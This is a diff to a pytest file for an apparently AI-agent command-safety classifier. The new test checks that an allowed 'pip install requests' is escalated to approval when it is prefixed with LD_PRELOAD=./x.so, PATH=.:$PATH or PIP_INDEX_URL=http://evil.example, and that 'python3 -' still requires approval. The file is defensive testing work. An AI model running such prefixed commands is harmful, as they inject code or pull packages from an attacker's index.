@@ -9,10 +9,11 @@ import pytest
 from platformdirs import user_config_path
 
 from claude_orchestrator.errors import ConfigError
-from claude_orchestrator.safety.classifier import judge
+from claude_orchestrator.safety.classifier import classify, judge
 from claude_orchestrator.safety.operations import Decision, Effect, Operation, Verdict
 from claude_orchestrator.safety.policy import PRESETS, RULES, Policy, load_policy
 from claude_orchestrator.safety.policy_file import Layer, parse_layer, read_layer, seconds, user_file
+from claude_orchestrator.safety.rows import operation_of
 from claude_orchestrator.safety.rules import Rule, path_matcher
 
 SAFE, ASK, BLOCKED = Decision.SAFE, Decision.REQUIRES_APPROVAL, Decision.BLOCKED
@@ -226,6 +227,20 @@ def test_an_allowed_command_is_safe_and_nothing_beside_it() -> None:
     assert ruled(allow, make("make", "deploy"), make("rm", "x", rule="A1")) is ASK
     assert ruled(allow, make("make", "deploy"), Effect("A4", "writes /etc/x", paths=("/etc/x",))) is ASK
     assert ruled(allow, make("make", "deploy", rule="B5")) is BLOCKED
+
+
+def test_an_allowed_command_is_nothing_that_its_words_do_not_show() -> None:
+    allow = '[[rule]]\ndecision = "allow"\nargv = ["pip", "install", "requests"]'
+    policy = load_policy(user=layer(allow))
+
+    def asked(line: str) -> Decision:
+        return classify(operation_of({"op": line, "cwd": "/work/p", "workspace": "/work/p"}), policy).decision
+
+    assert asked("pip install requests") is SAFE
+    for before in ("LD_PRELOAD=./x.so", "PATH=.:$PATH", "PIP_INDEX_URL=http://evil.example"):
+        assert asked(f"{before} pip install requests") is ASK
+    code = '[[rule]]\ndecision = "allow"\nargv = ["python3", "-"]'
+    assert ruled(code, make("python3", "-", rule="A9")) is ASK
 
 
 def test_the_rest_of_a_vector_and_words_that_a_wildcard_never_stands_for() -> None:
